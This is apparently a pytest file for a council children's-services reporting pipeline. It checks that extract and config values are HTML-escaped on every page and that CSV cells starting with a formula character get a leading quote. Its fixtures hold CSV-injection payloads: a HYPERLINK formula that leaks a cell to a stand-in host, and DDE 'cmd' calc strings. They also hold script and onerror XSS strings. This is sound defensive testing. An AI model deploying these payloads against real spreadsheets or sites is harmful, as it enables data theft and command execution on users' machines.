"""Nothing from the extract or the config is trusted as markup or as a spreadsheet formula.

Issue 14, part 5. A value from the extract (a budget line, an episode id, an invalid lead agency
shown in the data-quality section) or from an edition's parameters reaches every page as text,
never as HTML; a text cell that a spreadsheet would run as a formula reaches every CSV with a
leading single quote (the OWASP rule), in the analysts' and the published edition alike.
"""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pandas as pd
import pytest

from helpers import batch, outputs
from helpers.extract import SYNTHETIC_DIR
from helpers.report import table_html

#: One value per prefix a spreadsheet reads as the start of a formula.
FORMULAS = {
    "=": '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


def _cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("prefix", list(FORMULAS))
def test_a_formula_in_a_text_cell_is_written_with_a_leading_quote(tmp_path, prefix):
    value = FORMULAS[prefix]
    table = pd.DataFrame({"line": [value, "Troubled Families"], "spend": [-5, 12]})
    path = outputs.write_table(table, "budget", tmp_path)
    header, first, second = _cells(path)
    assert header == ["line", "spend"]
    assert first == ["'" + value, "-5"]  # a negative number stays a number
    assert second == ["Troubled Families", "12"]


@pytest.mark.parametrize("text", ["-12", "+3.5", "-0.25", "-1e3"])
def test_a_number_held_as_text_is_not_quoted(tmp_path, text):
    path = outputs.write_table(pd.DataFrame({"value": [text]}), "t", tmp_path)
    assert _cells(path)[1] == [text]


def test_table_cells_headings_and_captions_are_escaped():
    table = pd.DataFrame({"<b>line</b>": ["<script>alert(1)</script>", "A & B"], "pct": [1.0, 2]})
    page = table_html(table, "Caption <i>x</i>", {"pct": "% <u>y</u>"}).data
    for raw in ("<script>", "<b>line</b>", "<i>x</i>", "<u>y</u>"):
        assert raw not in page
    for shown in ("&lt;script&gt;alert(1)&lt;/script&gt;", "A &amp; B", "&lt;b&gt;line&lt;/b&gt;"):
        assert shown in page


SCRIPT = "<script>document.title='injected'</script>Family support"
IMAGE = "<img src=x onerror=alert(1)>"
CONFIG_MARKUP = "2015/16 <i>forecast</i>"


@pytest.fixture(scope="module")
def hostile_extract(tmp_path_factory) -> Path:
    """The synthetic extract with markup and formulas in the places an export can put them."""
    folder = tmp_path_factory.mktemp("hostile") / "extract"
    shutil.copytree(SYNTHETIC_DIR, folder)
    (folder / "manifest.json").unlink()  # no longer the synthetic extract the manifest describes
    budget = pd.read_csv(folder / "budget.csv", dtype=str)
    extra = [SCRIPT, *FORMULAS.values()][:5]  # tab and CR are trimmed by the reader
    budget = pd.concat([budget, pd.DataFrame({"line": extra, "spend": "0", "income": "0"})])
    budget.to_csv(folder / "budget.csv", index=False, lineterminator="\n")
    episodes = pd.read_csv(folder / "caf_episodes.csv", dtype=str, keep_default_na=False)
    open_one = {
        "episode_id": IMAGE,  # open on the map's date, home outside the authority: listed
        "child_id": "C-HOSTILE",
        "family_id": "F-HOSTILE",
        "lead_agency": "Children & Families First",
        "caf_level": "2",
        "start_date": "2015-12-01",
        "end_date": "",
        "closure_reason": "",
        "lsoa11cd": "E01000001",
    }
    episodes = pd.concat([episodes, pd.DataFrame([open_one])], ignore_index=True)
    episodes.loc[5, "lead_agency"] = IMAGE  # not a lead agency: left out, shown in data quality
    episodes.loc[6, "lead_agency"] = FORMULAS["="]  # likewise, and into data_quality.csv
    episodes.to_csv(folder / "caf_episodes.csv", index=False, lineterminator="\n")
    return folder


def _plan() -> dict[str, dict]:
    """Every notebook once, with a parameter from the config carrying markup."""
    root = Path(batch.__file__).resolve().parents[2] / "config" / "editions"
    editions = [
        batch.Edition.load(root / f"{e}.yaml").notebooks
        for e in ("board-2015-10", "cabinet-2016-03")
    ]
    plan: dict[str, dict] = {**editions[0], **editions[1]}
    plan["07_reconciliation"] = {
        "documents": [d for e in editions for d in e["07_reconciliation"]["documents"]]
    }
    plan["06_budget"]["forecast_title"] = CONFIG_MARKUP
    return plan


@pytest.mark.slow  # runs every notebook through Papermill, twice
@pytest.mark.parametrize("publish", [False, True], ids=["analysts", "published"])
def test_no_extract_or_config_value_is_markup_or_formula_on_any_page(
    hostile_extract, tmp_path, publish, imd_mirror
):
    report = batch.run_batch(
        _plan(),
        "2016-03",
        hostile_extract,
        tmp_path / "reports",
        jobs=2,
        progress=False,
        allow_invalid=True,
        publish=publish,
    )
    pages = sorted((report / "html").glob("*.html"))
    assert len(pages) == 7
    for page in pages:
        text = page.read_text(encoding="utf-8")
        for raw in (SCRIPT, IMAGE, "<i>forecast</i>", "<script>document"):
            assert raw not in text, f"{page.name} carries {raw!r} as markup"
        assert "Data quality" in text, page.name  # where the left-out rows are counted or shown
        if not publish:  # the rows themselves, with their values, in the analysts' edition only
            assert "&lt;img src=x onerror=alert(1)&gt;" in text, page.name
    budget_page = (report / "html" / "06_budget.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;document.title=" in budget_page
    assert "2015/16 &lt;i&gt;forecast&lt;/i&gt;" in budget_page
    if not publish:
        lsoa_page = (report / "html" / "04_open_episodes_by_lsoa.html").read_text("utf-8")
        assert lsoa_page.count("&lt;img src=x onerror=alert(1)&gt;") >= 2  # listed off the map

    lines = [row[0] for row in _cells(report / "tables" / "budget.csv")[1:]]
    for value in [*FORMULAS.values()][:4]:
        assert "'" + value in lines and value not in lines
    for table in (report / "tables").glob("*.csv"):
        for row in _cells(table):
            for cell in row:
                if cell[:1] in ("=", "+", "@", "\t", "\r") or cell.startswith("-"):
                    assert outputs.formula_safe(cell) == cell, f"{table.name}: {cell!r}"
    if not publish:
        quality = _cells(report / "tables" / "data_quality.csv")
        assert any("'" + FORMULAS["="] in row for row in quality)
